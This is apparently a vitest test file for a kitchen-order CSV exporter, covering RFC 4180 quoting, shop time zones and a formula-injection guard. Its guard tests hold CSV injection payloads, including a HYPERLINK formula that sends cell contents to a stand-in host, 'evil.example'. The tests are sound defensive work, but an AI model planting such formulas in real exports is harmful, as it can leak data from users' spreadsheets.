import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  csvField,
  csvText,
  guardFormula,
  ORDERS_CSV_COLUMNS,
  ordersCsv,
  shopDateTime,
} from '@/domain/kitchen/orders-csv';
import { beef, chapati, storedOrder } from './stored-orders';

const HEADER =
  'order_number,window_start,window_end,order_type,status,customer_name,customer_phone,customer_email,' +
  'delivery_address,notes,product,quantity,unit_price,line_total,order_total\r\n';

/** RFC 4180 read back: the test's own small reader, to check that what is written parses to what was meant. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else field += char;
  }
  if (field !== '' || row.length > 0) throw new Error('the last row has no CRLF');
  return rows;
}

describe('csvField and csvText (RFC 4180)', () => {
  it('quotes a field holding a comma, a double quote, CR or LF, doubling its quotes', () => {
    expect(csvField('plain text')).toBe('plain text');
    expect(csvField('')).toBe('');
    expect(csvField('Mombasa, Kenya')).toBe('"Mombasa, Kenya"');
    expect(csvField('say "jambo"')).toBe('"say ""jambo"""');
    expect(csvField('line one\nline two')).toBe('"line one\nline two"');
    expect(csvField('carriage\rreturn')).toBe('"carriage\rreturn"');
    expect(csvField("it's; fine\ttoo")).toBe("it's; fine\ttoo");
  });

  it('ends every row, the last included, with CRLF', () => {
    expect(
      csvText([
        ['a', 'b'],
        ['c', 'd'],
      ]),
    ).toBe('a,b\r\nc,d\r\n');
    expect(csvText([])).toBe('');
  });

  it('reads back as the rows written, whatever the text', () => {
    const rows = fc.array(fc.array(fc.string({ unit: 'grapheme-composite' }), { minLength: 2, maxLength: 5 }), {
      maxLength: 5,
    });
    fc.assert(
      fc.property(rows, (written) => {
        expect(parseCsv(csvText(written))).toEqual(written);
      }),
    );
  });
});

describe('guardFormula', () => {
  it('puts an apostrophe before text a spreadsheet would run as a formula', () => {
    expect(guardFormula('=HYPERLINK("https://evil.example","Click")')).toBe(
      '\'=HYPERLINK("https://evil.example","Click")',
    );
    expect(guardFormula('+1 913 555 0142')).toBe("'+1 913 555 0142");
    expect(guardFormula('-2+3')).toBe("'-2+3");
    expect(guardFormula('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(guardFormula('\t=1+1')).toBe("'\t=1+1");
    expect(guardFormula('\r=1+1')).toBe("'\r=1+1");
  });

  it('leaves other text alone, formula characters after the first included', () => {
    expect(guardFormula('Wanjiru Kamau')).toBe('Wanjiru Kamau');
    expect(guardFormula('913-555-0142')).toBe('913-555-0142');
    expect(guardFormula('a=b')).toBe('a=b');
    expect(guardFormula('')).toBe('');
  });
});

describe('shopDateTime', () => {
  it("writes the shop's wall clock, on both daylight-saving days", () => {
    expect(shopDateTime(new Date('2026-11-24T20:00:00Z'))).toBe('2026-11-24 14:00');
    // 8 March 2026: 01:30 CST, then the clocks jump from 02:00 to 03:00 CDT.
    expect(shopDateTime(new Date('2026-03-08T07:30:00Z'))).toBe('2026-03-08 01:30');
    expect(shopDateTime(new Date('2026-03-08T08:00:00Z'))).toBe('2026-03-08 03:00');
    // 1 November 2026: 01:30 comes twice, first in CDT then in CST.
    expect(shopDateTime(new Date('2026-11-01T06:30:00Z'))).toBe('2026-11-01 01:30');
    expect(shopDateTime(new Date('2026-11-01T07:30:00Z'))).toBe('2026-11-01 01:30');
    // Late evening in Kansas City is already the next day in UTC.
    expect(shopDateTime(new Date('2026-11-25T05:30:00Z'))).toBe('2026-11-24 23:30');
  });
});

describe('ordersCsv', () => {
  it('starts with the header row', () => {
    expect(`${ORDERS_CSV_COLUMNS.join(',')}\r\n`).toBe(HEADER);
    expect(ordersCsv([])).toBe(HEADER);
  });

  it('writes one row per item, the order repeated on each, money as 2-decimal strings', () => {
    const order = storedOrder(
      12,
      { start: '2026-11-24T20:00:00Z', end: '2026-11-24T20:30:00Z' },
      [beef(20), chapati(10)],
      { tipCents: 570 },
    );
    expect(ordersCsv([order])).toBe(
      HEADER +
        'KBT-12,2026-11-24 14:00,2026-11-24 14:30,pickup,confirmed,Amina Odhiambo,913-555-0142,amina@example.com,,,Beef Samosa,20,1.90,38.00,58.70\r\n' +
        'KBT-12,2026-11-24 14:00,2026-11-24 14:30,pickup,confirmed,Amina Odhiambo,913-555-0142,amina@example.com,,,Chapati,10,1.50,15.00,58.70\r\n',
    );
  });

  it('quotes notes with a comma, a quote and a line break, and writes the delivery address', () => {
    const order = storedOrder(7, { start: '2026-03-08T16:00:00Z', end: '2026-03-08T16:30:00Z' }, [beef(20)], {
      orderType: 'delivery',
      status: 'cancelled',
      customerEmail: null,
      notes: 'Ring twice, then say "jambo"\nGate code 42',
      deliveryAddress: { fullAddress: '123 Main St, Overland Park, KS 66212', zone: 'Local 0-10', feeCents: 350 },
      deliveryFeeCents: 350,
    });
    expect(ordersCsv([order])).toBe(
      HEADER +
        'KBT-7,2026-03-08 11:00,2026-03-08 11:30,delivery,cancelled,Amina Odhiambo,913-555-0142,,' +
        '"123 Main St, Overland Park, KS 66212","Ring twice, then say ""jambo""\nGate code 42",Beef Samosa,20,1.90,38.00,41.50\r\n',
    );
  });

  it('guards every typed cell against formulas, before quoting it', () => {
    const order = storedOrder(3, { start: '2026-03-08T16:00:00Z', end: '2026-03-08T16:30:00Z' }, [
      { ...beef(1), name: '@Beef' },
    ]);
    const hostile = {
      ...order,
      customerName: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      customerPhone: '+1 913 555 0142',
      customerEmail: '-x@example.com',
      deliveryAddress: '=1+1, Overland Park',
      notes: '\t=cmd',
    };
    const [, row] = parseCsv(ordersCsv([hostile]));
    expect(row?.slice(5, 11)).toEqual([
      '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
      "'+1 913 555 0142",
      "'-x@example.com",
      "'=1+1, Overland Park",
      "'\t=cmd",
      "'@Beef",
    ]);
  });

  it('leaves the window cells empty for an order from before windows, and reads an address kept as text', () => {
    const order = storedOrder(4, null, [beef(2)], { deliveryAddress: '9 Elm St', orderType: 'delivery' });
    const [, row] = parseCsv(ordersCsv([order]));
    expect(row?.slice(0, 3)).toEqual(['KBT-4', '', '']);
    expect(row?.[8]).toBe('9 Elm St');
  });
});
